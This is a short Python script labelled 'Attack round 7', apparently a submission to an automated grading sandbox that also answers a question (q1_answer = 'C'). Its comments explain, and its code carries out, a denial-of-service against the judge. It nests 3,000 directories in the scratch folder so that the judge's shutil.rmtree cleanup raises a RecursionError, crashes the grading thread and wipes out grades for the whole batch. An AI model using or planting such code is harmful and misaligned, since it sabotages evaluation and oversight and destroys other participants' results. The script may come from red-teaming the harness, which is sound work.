# Attack round 7 (sandbox, without namespaces): a folder tree 3,000 levels deep in the worker's scratch folder.
# Without namespaces the scratch is a folder on the host (engine.py `scratch-{slot}`), removed by the judge after
# the worker with shutil.rmtree(..., ignore_errors=True); Python 3.11's rmtree recurses once per level and
# ignore_errors covers OSError only, so the RecursionError it raises at about 1,000 levels ends the judge's
# grading thread, and with it the whole batch: no grades.csv rows for anybody.
import os

fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=fd)
    inner = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = inner
os.close(fd)

q1_answer = "C"
